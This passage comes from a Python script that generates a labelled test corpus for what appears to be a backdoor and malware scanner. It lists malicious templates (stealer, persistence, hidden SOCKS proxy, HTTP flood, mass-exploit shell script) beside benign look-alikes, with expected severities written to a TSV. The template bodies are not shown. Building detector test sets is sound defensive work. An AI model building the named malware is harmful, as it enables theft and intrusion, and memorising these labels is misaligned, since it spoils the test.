    ("sms_blaster", t_sms_blaster, "malicious", "any"),
    ("proxy", t_proxy, "malicious", "any"),
    ("stealer", t_stealer, "malicious", "high"),
    ("persist", t_persist, "malicious", "high"),
    ("oneliners", t_oneliners, "malicious", "high"),
    ("smtp_helper_loop", t_smtp_helper_loop, "malicious", "high"),
    ("http_flood_py", t_http_flood_py, "malicious", "high"),
    ("hidden_socks", t_hidden_socks, "malicious", "high"),
    ("perl_cgi_upload", t_perl_cgi_upload, "malicious", "high"),
    ("sh_mass_exploit", t_sh_mass_exploit, "malicious", "high"),
    ("py_http_proxy", t_py_http_proxy, "malicious", "any"),
    ("php_obf_generator", t_php_obf_generator, "malicious", "any"),
    ("quota_report", b_quota_report, "benign", "none"),
    ("smtp_monitor", b_smtp_monitor, "benign", "none"),
    ("smtp_check_perl", b_smtp_check_perl, "benign", "none"),
    ("mail_merge_db", b_mail_merge_db, "benign", "none"),
    ("node_mail_merge", b_node_mail_merge, "benign", "none"),
    ("deploy", b_deploy, "benign", "none"),
    ("smtp_tests", b_smtp_tests, "benign", "none"),
    ("node_tests", b_node_tests, "benign", "none"),
    ("webhook", b_webhook, "benign", "none"),
    ("irc_ci", b_irc_ci, "benign", "none"),
    ("watchdog", b_watchdog, "benign", "none"),
    ("backup_cron", b_backup_cron, "benign", "none"),
    ("socks_dev", b_socks_dev, "benign", "none"),
    ("sms_2fa", b_sms_2fa, "benign", "none"),
    ("node_postinstall_bin", b_node_postinstall_bin, "benign", "none"),
    ("node_publish", b_node_publish, "benign", "none"),
    ("node_express_rev", b_node_express_rev, "benign", "none"),
    ("perl_cgi_upload_ok", b_perl_cgi_upload_ok, "benign", "none"),
    ("sh_health_sweep", b_sh_health_sweep, "benign", "none"),
    ("php_config_writer", b_php_minifier_py, "benign", "none"),
    ("notify_helper", b_notify_helper, "benign", "none"),
    ("load_test_py", b_load_test_py, "benign", "none"),
    # a SOCKS test server is a SOCKS server: bot_socks_proxy_script (medium) names it
    ("socks_dev_py", b_socks_dev_py, "benign", "below-high"),
    ("sms_reminder", b_sms_reminder, "benign", "none"),
    ("dotfiles", b_dotfiles, "benign", "none"),
    ("node_template", b_node_template, "benign", "none"),
    ("home_backup", b_home_backup, "benign", "none"),
    ("py_relay_dev", b_py_relay_dev, "benign", "none"),
]


def main():
    import argparse
    import hashlib
    import os
    import random
    import sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from gen_variants import safe_out_dir
    ap = argparse.ArgumentParser(description="non-PHP backdoors, bots and mailers, round 7")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=8)
    a = ap.parse_args()
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, expect in TEMPLATES:
            for i in range(a.per):
                tag = "nonphp7:%s:%s:%d" % (a.seed, name, i)
                text, ext = fn(random.Random(tag))
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + ext
                if not ext:  # a dropped daemon: a hidden name without extension
                    fname = "." + fname[:-1]
                with open(os.path.join(out, fname), "wb") as f:
                    f.write(text.encode("utf-8"))
                tsv.write("\t".join((fname, cls, name, ext, expect, "-")) + "\n")


if __name__ == "__main__":
    main()
